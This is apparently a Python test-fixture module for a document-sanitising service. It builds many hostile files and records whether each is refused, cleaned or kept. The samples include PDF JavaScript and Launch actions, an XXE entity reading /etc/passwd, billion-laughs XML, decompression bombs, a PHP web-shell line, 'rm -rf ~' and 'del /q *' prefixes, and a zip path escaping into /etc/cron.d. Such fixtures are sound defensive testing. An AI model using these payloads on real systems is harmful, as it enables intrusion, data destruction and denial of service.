"""Files of people who mean harm, or whose programs are broken: a hundred and more, made here, kept nowhere.

Each has a name, content, and what becomes of it: `refused` with one of these codes, `cleaned` of these things
(documents.cleaning.WORDS), or `kept` as it is because nothing in it can act.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image
from tests.clamd import EICAR

Make = Callable[[pikepdf.Pdf], None]


@dataclass(frozen=True)
class Hostile:
    """One file. `fate` is refused, cleaned or kept; `how` which codes may be said, or what is taken out."""

    name: str
    content: bytes
    fate: str
    how: frozenset[str] = frozenset()


def all_of_them() -> list[Hostile]:
    """Every one, in a fixed order."""
    return [*_active(), *_locked_and_broken(), *_endless(), *_bombs(), *_images(), *_mixed(), *_other()]


def document(make: Make | None = None, **saving: Any) -> bytes:
    """A PDF of one page, after `make` had it."""
    out = io.BytesIO()
    with pikepdf.new() as pdf:
        pdf.add_blank_page(page_size=(595, 842))
        if make:
            make(pdf)
        pdf.save(out, static_id=not saving.get("encryption"), **saving)
    return out.getvalue()


def raw(*objects: bytes, root: int = 1, broken: bool = False) -> bytes:
    """A PDF written by hand: objects from 1, `root` is the catalog; with a wrong table if `broken`."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate(objects, 1):
        places.append(len(out) + (7 if broken else 0))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, start)
    return bytes(out)


def stream(data: bytes, entries: bytes = b"", packed: bool = True) -> bytes:
    """A stream object, packed with Flate."""
    content = zlib.compress(data, 9) if packed else data
    filter_ = b"/Filter /FlateDecode" if packed else b""
    return b"<< %s %s /Length %d >>\nstream\n%s\nendstream" % (entries, filter_, len(content), content)


def paged(contents: bytes, *more: bytes, resources: bytes = b"") -> bytes:
    """One page whose contents are object 4; `more` objects follow from 5."""
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << %s >> >>"
    tree = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    return raw(b"<< /Type /Catalog /Pages 2 0 R >>", tree, page % resources, contents, *more)


def zeros(size: int, rounds: int = 1) -> bytes:
    """So many zeros, packed; twice packed a gigabyte is a few kilobytes. Never held unpacked."""
    packer = zlib.compressobj(9)
    out = b"".join(packer.compress(bytes(1 << 20)) for _ in range(size >> 20)) + packer.flush()
    for _ in range(rounds - 1):
        out = zlib.compress(out, 9)
    return out


def _cleaned(name: str, make: Make, *what: str, **saving: Any) -> Hostile:
    return Hostile(f"{name}.pdf", document(make, **saving), "cleaned", frozenset(what))


def _refused(name: str, content: bytes, *codes: str) -> Hostile:
    return Hostile(name, content, "refused", frozenset(codes))


def _js(code: str = "app.alert(1)") -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(code))


LAUNCH = Dictionary(S=Name.Launch, F=String("/bin/sh"))
ACTS = {
    "javascript": (_js(), "javascript"),
    "launch": (LAUNCH, "launch"),
    "launch-win": (
        Dictionary(S=Name.Launch, Win=Dictionary(F=String("cmd.exe"), P=String("/c calc"))),
        "launch",
    ),
    "other-file": (
        Dictionary(S=Name.GoToR, F=String("//host/share/a.pdf"), D=Array([0, Name.Fit])),
        "launch",
    ),
    "submit": (Dictionary(S=Name.SubmitForm, F=String("http://x.invalid/"), Flags=4), "submit"),
    "import": (Dictionary(S=Name.ImportData, F=String("a.fdf")), "submit"),
    "rendition": (Dictionary(S=Name.Rendition, OP=0), "media"),
    "sound": (Dictionary(S=Name.Sound), "media"),
    "movie": (Dictionary(S=Name.Movie), "media"),
    "embedded-file": (Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("a.pdf"))), "embedded"),
    "script-link": (Dictionary(S=Name.URI, URI=String("javascript:alert(1)")), "launch"),
    "file-link": (Dictionary(S=Name.URI, URI=String("FILE:///etc/passwd")), "launch"),
}


def _note(pdf: pikepdf.Pdf, **entries: Any) -> Any:
    note = pdf.make_indirect(Dictionary(Type=Name.Annot, Rect=Array([10, 10, 90, 90]), **entries))
    pdf.pages[0].obj["/Annots"] = Array([note])
    return note


def _active() -> Iterator[Hostile]:
    for name, (act, flag) in ACTS.items():

        def opening(pdf: pikepdf.Pdf, act: Any = act) -> None:
            pdf.Root["/OpenAction"] = act

        def link(pdf: pikepdf.Pdf, act: Any = act) -> None:
            _note(pdf, Subtype=Name.Link, A=act)

        def chain(pdf: pikepdf.Pdf, act: Any = act) -> None:
            first = Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=Array([act]))
            _note(pdf, Subtype=Name.Link, A=first)

        yield _cleaned(f"{name}-on-opening", opening, flag, "open_action")
        yield _cleaned(f"{name}-behind-a-link", link, flag)
        yield _cleaned(f"{name}-after-another", chain, flag)

    def at_close(pdf: pikepdf.Pdf) -> None:
        pdf.Root["/AA"] = Dictionary(WC=_js())

    def at_page(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].obj["/AA"] = Dictionary(O=_js())

    def in_names(pdf: pikepdf.Pdf) -> None:
        tree = Dictionary(Names=Array([String("x"), pdf.make_indirect(_js())]))
        pdf.Root["/Names"] = Dictionary(JavaScript=tree)

    def in_field(pdf: pikepdf.Pdf) -> None:
        field = _note(pdf, Subtype=Name.Widget, FT=Name.Tx, T=String("a"), AA=Dictionary(K=_js()))
        pdf.Root["/AcroForm"] = Dictionary(Fields=Array([field]))

    def in_bookmark(pdf: pikepdf.Pdf) -> None:
        root = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=1))
        mark = pdf.make_indirect(Dictionary(Title=String("开"), Parent=root, A=_js()))
        root["/First"] = root["/Last"] = mark
        pdf.Root["/Outlines"] = root

    def as_stream(pdf: pikepdf.Pdf) -> None:
        act = Dictionary(S=Name.JavaScript, JS=pdf.make_stream(b"this.exportDataObject({cName:'a'})"))
        pdf.Root["/OpenAction"] = act

    yield _cleaned("script-on-closing", at_close, "javascript", "open_action")
    yield _cleaned("script-on-a-page", at_page, "javascript", "open_action")
    yield _cleaned("script-by-name", in_names, "javascript")
    yield _cleaned("script-in-a-field", in_field, "javascript", "open_action")
    yield _cleaned("script-in-a-bookmark", in_bookmark, "javascript")
    yield _cleaned("script-as-a-stream", as_stream, "javascript", "open_action")
    hidden = pikepdf.ObjectStreamMode.generate
    yield _cleaned("script-in-an-object-stream", in_names, "javascript", object_stream_mode=hidden)
    act = b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"
    coded = raw(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        act,
    )
    what = frozenset({"javascript", "open_action"})
    yield Hostile("script-under-a-coded-name.pdf", coded, "cleaned", what)
    yield from _carrying()


def _carrying() -> Iterator[Hostile]:
    def spec(pdf: pikepdf.Pdf, content: bytes = b"MZ") -> Any:
        held = pdf.make_stream(content, Type=Name.EmbeddedFile)
        entries = {
            "Type": Name.Filespec,
            "F": String("a.exe"),
            "UF": String("a.exe"),
            "EF": Dictionary(F=held),
        }
        return pdf.make_indirect(Dictionary(**entries))

    def named(pdf: pikepdf.Pdf) -> None:
        tree = Dictionary(Names=Array([String("a"), spec(pdf)]))
        pdf.Root["/Names"] = Dictionary(EmbeddedFiles=tree)

    def portfolio(pdf: pikepdf.Pdf) -> None:
        named(pdf)
        pdf.Root["/Collection"] = Dictionary(View=Name.D)

    def associated(pdf: pikepdf.Pdf) -> None:
        pdf.Root["/AF"] = Array([spec(pdf)])

    def of_a_page(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].obj["/AF"] = Array([spec(pdf, EICAR)])

    def pinned(pdf: pikepdf.Pdf) -> None:
        _note(pdf, Subtype=Name.FileAttachment, FS=spec(pdf))

    yield _cleaned("a-file-by-name", named, "embedded")
    yield _cleaned("a-portfolio", portfolio, "embedded")
    yield _cleaned("an-associated-file", associated, "embedded")
    yield _cleaned("a-file-of-a-page", of_a_page, "embedded")
    yield _cleaned("a-pinned-file", pinned, "embedded")
    for kind in ("RichMedia", "Movie", "Sound", "Screen", "3D"):
        yield _cleaned(f"a-note-{kind}", lambda pdf, kind=kind: _note(pdf, Subtype=Name(f"/{kind}")), "media")

    def form(pdf: pikepdf.Pdf) -> None:
        pdf.Root["/AcroForm"] = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp:xdp/>"))

    def living(pdf: pikepdf.Pdf) -> None:
        form(pdf)
        pdf.Root["/NeedsRendering"] = True

    yield _cleaned("a-form-of-xfa", form, "xfa")
    yield _refused("a-living-form-of-xfa.pdf", document(living), "xfa")


def _locked_and_broken() -> Iterator[Hostile]:
    for strength in (3, 4, 6):
        locked = pikepdf.Encryption(owner="o", user="u", R=strength, aes=strength > 3, metadata=strength > 3)
        yield _refused(f"locked-{strength}.pdf", document(encryption=locked), "encrypted")
    whole = document(lambda pdf: pdf.Root.__setitem__("/Lang", String("zh")))
    yield _refused("wrong-table.pdf", raw(b"<< /Type /Catalog >>", broken=True), "damaged", "empty")
    for share in (0.2, 0.5, 0.8, 0.97):
        yield _refused(f"cut-at-{share}.pdf", whole[: int(len(whole) * share)], "damaged")
    yield _refused("header-alone.pdf", b"%PDF-1.7\n", "damaged")
    yield _refused("no-pages.pdf", raw(b"<< /Type /Catalog >>"), "damaged", "empty")
    yield _refused("nothing.pdf", b"", "empty")
    yield _refused("zeros.pdf", b"%PDF-1.4\n" + bytes(100_000), "damaged")
    yield _refused("noise.pdf", b"%PDF-1.4\n" + bytes(range(256)) * 400, "damaged")
    wrong = whole.replace(b"/Pages", b"/Paget")
    yield _refused("a-catalog-of-nothing.pdf", wrong, "damaged", "empty")
    catalog, tree = b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99999999999999999999 842] >>"
    yield _refused("numbers-beyond-all.pdf", raw(catalog, tree, page), "damaged", "size", "empty")


def _endless() -> Iterator[Hostile]:
    catalog = b"<< /Type /Catalog /Pages 2 0 R >>"
    circle = b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"
    yield _refused("pages-in-a-circle.pdf", raw(catalog, circle), "damaged", "empty", "heavy")
    pair = (b"<< /Type /Pages /Kids [3 0 R] /Count 9 >>", b"<< /Type /Pages /Kids [2 0 R] /Count 9 >>")
    yield _refused("pages-in-a-wide-circle.pdf", raw(catalog, *pair), "damaged", "empty", "heavy")
    deep = [b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % n for n in range(3, 5003)]
    leaf = b"<< /Type /Page /MediaBox [0 0 595 842] >>"
    yield _refused("a-tree-of-5000-levels.pdf", raw(catalog, *deep, leaf), "damaged", "empty", "heavy")
    nested = b"[" * 20_000 + b"]" * 20_000
    yield _refused("lists-in-lists.pdf", paged(stream(b""), nested), "damaged", "heavy")
    books = b"<< /A " * 20_000 + b"1" + b" >>" * 20_000
    yield _refused("books-in-books.pdf", paged(stream(b""), books), "damaged", "heavy")
    many = raw(catalog, b"<< /Type /Pages /Kids [%s] /Count 2000 >>" % (b"3 0 R " * 2000), leaf)
    yield _refused("two-thousand-pages-in-one.pdf", many, "pages", "damaged")

    # Ten forms, each of which draws the next one ten times: ten milliards of strokes.
    forms = [
        stream(
            b"/X Do " * 10,
            b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X %d 0 R >> >>" % n,
        )
        for n in range(6, 16)
    ]
    last = stream(b"0 0 9 9 re f " * 10, b"/Type /XObject /Subtype /Form /BBox [0 0 9 9]")
    drawn = paged(stream(b"/X Do " * 10), *forms, last, resources=b"/XObject << /X 5 0 R >>")
    yield _refused("strokes-without-end.pdf", drawn, "heavy")
    self_ = stream(
        b"0 0 9 9 re f /X Do",
        b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >>",
    )
    own = paged(stream(b"/X Do"), self_, resources=b"/XObject << /X 5 0 R >>")
    yield Hostile("a-form-of-itself.pdf", own, "kept", frozenset({"heavy"}))

    def ring(pdf: pikepdf.Pdf) -> None:
        act = pdf.make_indirect(_js())
        act["/Next"] = act
        pdf.Root["/OpenAction"] = act

    yield _cleaned("scripts-in-a-ring", ring, "javascript", "open_action")

    def marks(pdf: pikepdf.Pdf) -> None:
        root = pdf.make_indirect(Dictionary(Type=Name.Outlines))
        mark = pdf.make_indirect(Dictionary(Title=String("a"), Parent=root))
        mark["/Next"] = mark["/First"] = mark["/Last"] = mark
        root["/First"] = root["/Last"] = mark
        pdf.Root["/Outlines"] = root

    yield Hostile("bookmarks-in-a-ring.pdf", document(marks), "kept")


def _bombs() -> Iterator[Hostile]:
    packed = zeros(300 << 20)
    once = b"<< /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (len(packed), packed)
    yield _refused("300-megabytes-of-content.pdf", paged(once), "bomb")
    twice = zeros(300 << 20, 2)
    chained = b"<< /Filter [/FlateDecode /FlateDecode] /Length %d >>\nstream\n%s\nendstream" % (
        len(twice),
        twice,
    )
    yield _refused("twice-packed.pdf", paged(chained), "bomb")
    runs = b"\x81\x00" * 1_500_000 + b"\x80"
    packed = zlib.compress(runs, 9)
    filters = b"[/FlateDecode /RunLengthDecode]"
    body = b"<< /Filter %s /Length %d >>\nstream\n%s\nendstream" % (filters, len(packed), packed)
    yield _refused("runs-of-zeros.pdf", paged(body), "bomb", "heavy")
    for name, wide, bits, space in (
        ("a-picture-of-3600-megapixels", 60_000, 8, b"/DeviceRGB"),
        ("a-picture-of-lines", 200_000, 1, b"/DeviceGray"),
    ):
        entries = b"/Type /XObject /Subtype /Image /Width %d /Height %d /BitsPerComponent %d /ColorSpace %s"
        image = stream(b"", entries % (wide, wide, bits, space))
        content = stream(b"595 0 0 842 0 0 cm /I Do")
        yield _refused(f"{name}.pdf", paged(content, image, resources=b"/XObject << /I 5 0 R >>"), "pixels")
    mile = document(lambda pdf: pdf.pages[0].obj.__setitem__("/MediaBox", Array([0, 0, 4_562_000, 842])))
    yield _refused("a-page-of-a-mile.pdf", mile, "size")
    bomb = zeros(300 << 20)
    store = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
    yield Hostile(
        "objects-in-a-bomb.pdf",
        paged(stream(b""), store % (len(bomb), bomb)),
        "refused",
        frozenset({"bomb", "damaged", "heavy"}),
    )
    objects = [b"null"] * 450_000
    yield _refused("half-a-million-objects.pdf", paged(stream(b""), *objects), "heavy")
    tiles = stream(
        b"0 0 .01 .01 re f",
        b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 .01 .01] "
        b"/XStep .01 /YStep .01 /Resources << >>",
    )
    fill = stream(b"/Pattern cs /P scn 0 0 595 842 re f")
    tiled = paged(fill, tiles, resources=b"/Pattern << /P 5 0 R >>")
    yield Hostile("tiles-without-end.pdf", tiled, "kept", frozenset({"heavy"}))


def png(
    wide: int, high: int, data: bytes, *chunks: tuple[bytes, bytes], bits: int = 1, colour: int = 0
) -> bytes:
    """A PNG as its header tells it, whatever is in it."""

    def chunk(name: bytes, content: bytes) -> bytes:
        return (
            struct.pack("!I", len(content)) + name + content + struct.pack("!I", zlib.crc32(name + content))
        )

    head = struct.pack("!IIBBBBB", wide, high, bits, colour, 0, 0, 0)
    inner = b"".join(chunk(*one) for one in chunks)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + inner + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def picture(kind: str, **saving: Any) -> bytes:
    """A small honest picture."""
    out = io.BytesIO()
    Image.new("RGB", (600, 500), "white").save(out, kind, **saving)
    return out.getvalue()


def _images() -> Iterator[Hostile]:
    yield _refused("a-milliard-of-pixels.png", png(40_000, 40_000, zeros(200 << 20)), "pixels")
    yield _refused("wider-than-memory.png", png(2**31 - 1, 2**31 - 1, b"x"), "pixels", "damaged")
    yield _refused("a-lie-about-itself.png", png(9_000, 9_000, b"x"), "damaged")
    text = b"Comment\0\0" + zeros(80 << 20)
    yield _refused(
        "a-comment-that-unpacks.png", png(9, 9, zlib.compress(bytes(99)), (b"zTXt", text)), "damaged"
    )
    profile = b"icc\0\0" + zeros(80 << 20)
    bomb = png(9, 9, zlib.compress(bytes(99)), (b"iCCP", profile))
    yield Hostile("a-profile-that-unpacks.png", bomb, "kept", frozenset({"damaged", "heavy"}))
    whole = picture("JPEG")
    at = whole.index(b"\xff\xc0") + 5
    yield _refused("65-thousand-square.jpg", whole[:at] + b"\xff\xff\xff\xff" + whole[at + 4 :], "pixels")
    yield _refused("torn.jpg", whole[: len(whole) // 2], "damaged")
    yield _refused("torn.png", picture("PNG")[:200], "damaged")
    for kind in ("GIF", "WEBP", "BMP", "TIFF", "ICO"):
        yield _refused(f"really-{kind}.png", picture(kind), "kind")
    yield _refused(
        "drawing.png", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "kind"
    )
    yield _refused("drawing.jpg", b'<?xml version="1.0"?><svg onload="alert(1)"/>', "kind")
    note = (
        whole[:2]
        + b"\xff\xfe"
        + struct.pack("!H", 38)
        + b"<html><script>alert(1)</script></html"[:36]
        + whole[2:]
    )
    yield Hostile("a-note-of-html.jpg", note, "kept")
    yield Hostile("a-page-behind.png", picture("PNG") + b"<html><script>alert(1)</script></html>", "kept")


def _mixed() -> Iterator[Hostile]:
    whole = document()
    for name, before in {
        "a-web-page": b"<!doctype html><html><script>alert(1)</script><!--",
        "a-drawing": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">',
        "a-php-page": b"<?php system($_GET[0]); ?>",
        "a-program": b"MZ\x90\x00" + bytes(60),
        "an-elf": b"\x7fELF\x02\x01\x01" + bytes(60),
        "a-shell-script": b"#!/bin/sh\nrm -rf ~\nexit\n",
        "a-gif": b"GIF89a=1;alert(1)//",
        "an-archive": b"PK\x03\x04" + bytes(60),
        "a-photograph": b"\xff\xd8\xff\xe0" + bytes(60),
    }.items():
        yield _refused(f"{name}-and-a-pdf.pdf", before + whole, "mixed", "damaged", "kind")
    yield Hostile(
        "a-web-page-behind.pdf",
        whole + b"\n<html><script>alert(1)</script></html>",
        "kept",
        frozenset({"damaged"}),
    )
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as packed:
        packed.writestr("a.exe", b"MZ")
    yield Hostile("an-archive-behind.pdf", whole + archive.getvalue(), "kept", frozenset({"damaged"}))


def _other() -> Iterator[Hostile]:
    laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    xml = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "ha">{laughs}]><x>&a11;</x>'.encode()
    outside = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    yield _refused("laughs.xml", xml, "kind")
    yield _refused("outside.xml", outside, "kind")
    yield _refused("page.pdf", b"<!doctype html><script>alert(1)</script>", "kind")
    yield _refused(
        "page.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "kind"
    )
    yield _refused("link.url", b"[InternetShortcut]\nURL=file://host/a.exe", "kind")
    yield _refused("program.pdf", b"MZ\x90\x00" + bytes(500), "kind")
    yield _refused("elf.jpg", b"\x7fELF\x02\x01\x01" + bytes(500), "kind")
    yield _refused("script.bat", b"@echo off\r\ndel /q *", "kind")
    yield _refused("archive.rar", b"Rar!\x1a\x07\x00" + bytes(99), "kind")
    yield _refused("archive.7z", b"7z\xbc\xaf\x27\x1c" + bytes(99), "kind")
    for name, files in {
        "bomb.zip": {"a": bytes(300 << 20)},
        "bomb.ofd": {"OFD.xml": b"<x/>", "Doc_0/Pages/0.xml": bytes(300 << 20)},
        "laughs.ofd": {"OFD.xml": xml},
        "out-of-the-folder.ofd": {"OFD.xml": outside, "../../etc/cron.d/a": b"* * * * *"},
        "macros.docm": {"[Content_Types].xml": b"<x/>", "word/vbaProject.bin": b"x"},
    }.items():
        yield _refused(name, archived(files), "kind")
    inner = b"x"
    for _level in range(6):
        inner = archived({f"{n}.zip": inner for n in range(3)})
    yield _refused("zips-in-zips.zip", inner, "kind")
    yield _refused("eicar.com", EICAR, "kind")


def archived(files: dict[str, bytes]) -> bytes:
    """A zip of these."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as packed:
        for name, content in files.items():
            packed.writestr(name, content)
    return out.getvalue()
